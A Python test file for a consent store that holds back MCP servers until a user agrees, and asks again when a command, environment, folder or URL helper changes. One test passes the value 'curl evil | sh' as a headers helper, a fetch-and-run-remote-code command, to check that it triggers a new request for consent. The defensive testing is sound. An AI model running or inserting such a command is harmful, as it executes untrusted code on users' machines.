from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from core.mcp.spec import Endpoint, Program, ServerSpec
from core.protocol.facts import Evidence
from core.protocol.jackfield import ConsentItem
from core.threads.consent import Consent, ConsentStore, item_of
from tests.fakes.ports import FakeClock

pytestmark = pytest.mark.anyio


def spec(
    *argv: str, name: str = "s", cwd: str = "/w", env: tuple[str, ...] = (), layer: str = "user"
) -> ServerSpec:
    target = Program(argv=argv, cwd=cwd, env=dict.fromkeys(env, "secret-value"), env_names=env)
    return ServerSpec(name=name, target=target, origin=Evidence(layer=layer), scope=layer)


def web(url: str = "https://h/mcp", helper: str = "") -> ServerSpec:
    return ServerSpec(name="w", target=Endpoint(url=url, helper=helper, helper_cwd="/w"))


def item(of: ServerSpec) -> ConsentItem:
    found = item_of(of)
    assert found is not None
    return found


@pytest.fixture
def store(tmp_path: Path) -> ConsentStore:
    return ConsentStore(tmp_path / "state", FakeClock())


async def agree(store: ConsentStore, *specs: ServerSpec, yes: bool = True) -> None:
    await store.answer([(item(each), yes) for each in specs])


async def test_nothing_starts_before_the_first_yes_and_everything_after_it(
    store: ConsentStore,
) -> None:
    consent = Consent(store)
    assert consent.holds(spec("npx", "-y", "x"))
    assert consent.reason(spec("npx", "-y", "x")) == "new"
    await agree(store, spec("npx", "-y", "x"))
    assert not consent.holds(spec("npx", "-y", "x"))


@pytest.mark.parametrize(
    ("changed", "reason"),
    [
        (spec("npx", "-y", "x@2"), "command changed since 14 Nov"),
        (spec("npx", "-y", "x", env=("TOKEN",)), "environment changed since 14 Nov"),
    ],
)
async def test_only_what_has_changed_is_asked_again(
    store: ConsentStore, changed: ServerSpec, reason: str
) -> None:
    consent = Consent(store)
    await agree(store, spec("npx", "-y", "x"))
    assert consent.holds(changed)
    assert consent.reason(changed) == reason
    (shown,) = consent.items([changed])
    assert shown.status == "changed"


async def test_the_lines_that_differ_are_told_without_secrets(store: ConsentStore) -> None:
    await agree(store, spec("x", "--token", "hunter2", env=("A",)))
    (shown,) = Consent(store).items([spec("x", "--verbose", env=("A", "B"))])
    assert shown.was == ("command x --token •••", "gets A")
    assert shown.command == ("x", "--verbose"), "what is agreed to is shown as it is"


async def test_another_value_of_a_variable_needs_no_new_yes(store: ConsentStore) -> None:
    await agree(store, spec("x", env=("A",)))
    other = spec("x", env=("A",))
    assert isinstance(other.target, Program)
    object.__setattr__(other.target, "env", {"A": "another"})
    assert not Consent(store).holds(other)


async def test_a_url_and_its_headers_helper_are_agreed_to(store: ConsentStore) -> None:
    consent = Consent(store)
    await agree(store, web())
    assert not consent.holds(web())
    assert consent.holds(web("https://other/mcp"))
    assert consent.holds(web(helper="curl evil | sh"))


async def test_the_same_name_from_elsewhere_is_another_program(store: ConsentStore) -> None:
    consent = Consent(store)
    await agree(store, spec("x"))
    assert consent.holds(spec("x", layer="project"))
    assert consent.reason(spec("x", layer="project")) == "new"


async def test_a_program_of_the_folder_is_agreed_to_for_that_folder_only(
    store: ConsentStore, tmp_path: Path
) -> None:
    consent = Consent(store)
    here, there = tmp_path / "here", tmp_path / "there"
    for folder in (here, there):
        (folder / "node_modules").mkdir(parents=True)
        (folder / "server.js").touch()
        (folder / "mod.py").touch()
    for argv in (("node", "server.js"), ("./run",), ("npx", "x"), ("python", "-m", "mod")):
        await agree(store, spec(*argv, cwd=str(here)))
        assert not consent.holds(spec(*argv, cwd=str(here)))
        assert consent.holds(spec(*argv, cwd=str(there))), argv


async def test_a_program_that_no_folder_changes_is_agreed_to_everywhere(
    store: ConsentStore, tmp_path: Path
) -> None:
    await agree(store, spec("uvx", "mcp-server-time", cwd="/a"))
    assert not Consent(store).holds(spec("uvx", "mcp-server-time", cwd=str(tmp_path)))


async def test_a_no_is_remembered_and_not_asked_again(store: ConsentStore) -> None:
    consent = Consent(store)
    await agree(store, spec("x"), yes=False)
    assert consent.holds(spec("x"))
    assert consent.reason(spec("x")) == "you said no to it"
    assert consent.waiting([spec("x")]) == frozenset()
    await agree(store, spec("x"))
    assert not consent.holds(spec("x"))


async def test_what_waits_stands_first(store: ConsentStore) -> None:
    await agree(store, spec("a", name="agreed"), spec("old", name="changed"))
    await agree(store, spec("d", name="declined"), yes=False)
    shown = Consent(store).items(
        [
            spec("a", name="agreed"),
            spec("d", name="declined"),
            spec("n", name="new"),
            spec("c", name="changed"),
            ServerSpec(name="off", target=None, standing="invalid"),
        ]
    )
    assert [each.status for each in shown] == ["changed", "new", "declined", "agreed"]


async def test_yes_to_all_holds_nothing_and_writes_nothing(
    store: ConsentStore, tmp_path: Path
) -> None:
    consent = Consent(store, everything=True)
    assert not consent.holds(spec("x"))
    assert consent.waiting([spec("x")]) == frozenset()
    assert not (tmp_path / "state").exists()
    assert consent.holds(ServerSpec(name="bad", target=None, standing="invalid"))


async def test_answers_survive_and_those_of_another_panel_are_kept(tmp_path: Path) -> None:
    first, second = (ConsentStore(tmp_path, FakeClock()) for _ in range(2))
    await agree(first, spec("a", name="a"))
    await agree(second, spec("b", name="b"))
    third = ConsentStore(tmp_path, FakeClock())
    await third.load()
    assert third.standing(item(spec("a", name="a")))[0] == "agreed"
    assert third.standing(item(spec("b", name="b")))[0] == "agreed"


async def test_the_file_is_ours_alone_and_holds_no_secrets(tmp_path: Path) -> None:
    store = ConsentStore(tmp_path, FakeClock())
    await agree(store, spec("x", "--token", "hunter22", env=("A",)))
    file = tmp_path / "consents.json"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    text = file.read_text()
    assert "hunter22" not in text and "secret-value" not in text
    assert json.loads(text)["version"] == 1
    assert sorted(os.listdir(tmp_path)) == ["consents.json", "consents.lock", "home"]


@pytest.mark.parametrize(
    "text", ["", "[]", '{"programs": 1}', '{"programs": {"x": {"agreed": 1}}}']
)
async def test_a_file_that_cannot_be_read_means_that_nothing_was_agreed_to(
    tmp_path: Path, text: str
) -> None:
    (tmp_path / "consents.json").write_text(text)
    store = ConsentStore(tmp_path, FakeClock())
    await store.load()
    assert Consent(store).holds(spec("x"))
    await agree(store, spec("x"))
    assert not Consent(store).holds(spec("x"))
